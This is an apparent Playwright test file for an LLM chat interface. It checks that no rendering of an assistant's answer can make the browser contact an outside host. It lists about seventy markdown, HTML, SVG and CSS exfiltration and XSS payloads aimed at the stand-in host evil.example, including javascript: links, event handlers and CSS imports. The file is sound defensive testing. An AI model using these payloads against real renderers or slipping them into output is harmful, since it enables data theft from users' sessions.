"""T18, A64, P53: whatever way an answer says "fetch this", the browser of whoever reads it asks nobody else.

One answer with all renderings, in the true page, without its content security policy: that is the second wall
(tests/paas/test_headers.py), and would hide a hole in the first. Every request of the browser is seen and those that
leave are stopped; what a page can ask without a request is seen by what the document holds afterwards.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from playwright.async_api import Route, expect

from llm.providers.scripted import ScriptedModel

Visit = Callable[..., Any]
AWAY = "evil.example"
# {n} is the rendering's number: what leaves says which it was.
RENDERINGS = """
![i](https://evil.example/{n})
![i](//evil.example/{n})
![i](http://evil.example/{n} "title")
![i](<https://evil.example/{n}>)
![i](https://evil.example/{n}.svg)
![](https://evil.example/{n}?q=secret)
![i](HTTPS://EVIL.EXAMPLE/{n})
![i](https:/\\/evil.example/{n})
![i](https&#58;//evil.example/{n})
![i](&#104;ttps://evil.example/{n})
![i][r{n}]\n\n[r{n}]: https://evil.example/{n}
![r{n}][]\n\n[r{n}]: https://evil.example/{n} "t"
![r{n}]\n\n[r{n}]: //evil.example/{n}
[![i](https://evil.example/{n})](https://evil.example/{n}l)
[l](https://evil.example/{n})
[l][r{n}]\n\n[r{n}]: https://evil.example/{n}
[l](https://evil.example/{n} "https://evil.example/{n}t")
<https://evil.example/{n}>
https://evil.example/{n}
www.evil.example/{n}
evil@evil.example
[l](javascript:fetch('https://evil.example/{n}'))
[l](JaVaScRiPt:fetch('//evil.example/{n}'))
[l](data:text/html,<img src=https://evil.example/{n}>)
[l](vbscript:x) [l](file://evil.example/{n}) [l](ftp://evil.example/{n})
![i](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.example/{n}'/></svg>)
![i](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxpbWFnZSBocmVmPSJodHRwczovL2V2aWwuZXhhbXBsZS94Ii8+PC9zdmc+)
![i](blob:https://evil.example/{n})
text[^f{n}]\n\n[^f{n}]: ![i](https://evil.example/{n})
| a | b |\n|---|---|\n| ![i](https://evil.example/{n}) | [l](https://evil.example/{n}l) |
> ![i](https://evil.example/{n})
- ![i](https://evil.example/{n})\n  - ![i](https://evil.example/{n}n)
- [ ] ![i](https://evil.example/{n})
# ![i](https://evil.example/{n})
**![i](https://evil.example/{n})** ~~![i](https://evil.example/{n}s)~~
$\\includegraphics{{https://evil.example/{n}}}$
$$\\href{{https://evil.example/{n}}}{{x}} \\htmlStyle{{background:url(https://evil.example/{n})}}{{x}}$$
```mermaid\ngraph TD; A["<img src=https://evil.example/{n}>"]\n```
```html\n<img src=https://evil.example/{n}>\n```
```svg\n<svg><image href="https://evil.example/{n}"/></svg>\n```
<img src=https://evil.example/{n}>
<img src="x" srcset="https://evil.example/{n} 2x">
<img src=x onerror="fetch('https://evil.example/{n}')">
<IMG SRC=https://evil.example/{n}
<picture><source srcset="https://evil.example/{n}"><img></picture>
<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/{n}"/></svg>
<svg><use href="https://evil.example/{n}#x"/></svg>
<svg onload="fetch('https://evil.example/{n}')"></svg>
<svg><foreignObject><img src="https://evil.example/{n}"></foreignObject></svg>
<math><mtext><img src="https://evil.example/{n}"></mtext></math>
<style>body {{ background: url(https://evil.example/{n}) }}</style>
<style>@import "https://evil.example/{n}";</style>
<style>@font-face {{ font-family: x; src: url(https://evil.example/{n}) }} * {{ font-family: x }}</style>
<div style="background-image: url(https://evil.example/{n})">x</div>
<p style="list-style: url('//evil.example/{n}'); cursor: url(https://evil.example/{n}c), auto">x</p>
<link rel=stylesheet href="https://evil.example/{n}">
<link rel=preload as=image href="https://evil.example/{n}"><link rel=prefetch href="https://evil.example/{n}p">
<link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="https://evil.example">
<meta http-equiv=refresh content="0;url=https://evil.example/{n}">
<base href="https://evil.example/{n}/"><img src="rel{n}.png">
<script>fetch("https://evil.example/{n}")</script>
<script src="https://evil.example/{n}.js"></script>
<iframe src="https://evil.example/{n}"></iframe>
<iframe srcdoc="<img src=https://evil.example/{n}>"></iframe>
<object data="https://evil.example/{n}"></object><embed src="https://evil.example/{n}e">
<video src="https://evil.example/{n}" poster="https://evil.example/{n}p" autoplay></video>
<audio src="https://evil.example/{n}" autoplay><track src="https://evil.example/{n}t"></audio>
<form action="https://evil.example/{n}"><input type=image src="https://evil.example/{n}i" autofocus></form>
<body background="https://evil.example/{n}"><table background="https://evil.example/{n}t"><td>x</table>
<a href="https://evil.example/{n}" ping="https://evil.example/{n}p">l</a>
<input autofocus onfocus="fetch('https://evil.example/{n}')">
<details open ontoggle="fetch('https://evil.example/{n}')"><summary>x</summary></details>
<template><img src="https://evil.example/{n}"></template><noscript><img src="https://evil.example/{n}n"></noscript>
<frameset><frame src="https://evil.example/{n}"></frameset>
<applet code="https://evil.example/{n}"></applet><bgsound src="https://evil.example/{n}b">
<!--[if true]><img src="https://evil.example/{n}"><![endif]--><![CDATA[<img src="https://evil.example/{n}c">]]>
<x-y is="img" src="https://evil.example/{n}"></x-y>
&lt;img src=https://evil.example/{n}&gt; \\<img src=https://evil.example/{n}e\\>
""".strip().splitlines()


async def test_no_rendering_of_an_answer_leaves_the_page(visit: Visit) -> None:
    assert len(RENDERINGS) >= 60
    texts = [one.replace("\\n", "\n").format(n=number) for number, one in enumerate(RENDERINGS)]
    blocks = [f"number {number}\n\n{text}" for number, text in enumerate(texts)]
    ScriptedModel.enqueue([f"{block}\n\n" for block in blocks] + ["the end"])
    member = await visit("member", bypass_csp=True)
    gone: list[str] = []

    async def see(route: Route) -> None:
        if route.request.url.startswith((member.url, "data:", "blob:" + member.url)):
            await route.continue_()
            return
        gone.append(route.request.url)
        await route.abort()

    await member.page.context.route("**/*", see)
    sockets: list[str] = []
    member.page.on("websocket", lambda socket: sockets.append(socket.url))
    await member.ask("Render all of it")
    answer = member.at("message-assistant").last
    await expect(answer).to_have_attribute("data-status", "complete")
    await expect(answer).to_contain_text("the end")
    held = await answer.evaluate(HELD)
    await member.page.reload()  # as history renders it, once more
    await expect(member.at("message-assistant").last).to_contain_text("the end")
    held += await member.at("message-assistant").last.evaluate(HELD)
    for link in await member.at("message-assistant").last.locator("a[href]").all():
        await link.hover()
    await member.shot("exfiltration")
    assert gone == []
    assert [url for url in sockets if AWAY in url] == []
    assert held == []
    assert await member.page.evaluate("location.origin") == member.url
    assert await member.page.locator(f"head [href*='{AWAY}'], head base").count() == 0
    # All of it would have been seen.
    leak = "answer => { answer.innerHTML += '<img src=https://evil.example/control>' }"
    async with member.page.expect_event("requestfailed"):
        await member.at("message-assistant").last.evaluate(leak)
    assert gone == [f"https://{AWAY}/control"]
    assert len(await member.at("message-assistant").last.evaluate(HELD)) == 1
    member.faults.clear()


# What a document can hold that fetches by itself; data: images are drawn from what is there.
HELD = """answer => [...answer.querySelectorAll('*')].filter(one =>
    ['IFRAME', 'OBJECT', 'EMBED', 'SCRIPT', 'STYLE', 'LINK', 'META', 'BASE', 'FORM', 'VIDEO', 'AUDIO', 'FRAME'].includes(one.tagName)
    || [...one.attributes].some(({name, value}) =>
        name.startsWith('on') || name === 'ping' || name === 'style' && /url\\(/i.test(value)
        || ['src', 'srcset', 'poster', 'background', 'data', 'action'].includes(name) && /evil/i.test(value)
        || name === 'href' && /^\\s*(javascript|data|vbscript|file|blob)/i.test(value)
        || name === 'href' && one.tagName !== 'A' && /evil/i.test(value))
).map(one => one.outerHTML.slice(0, 200))"""
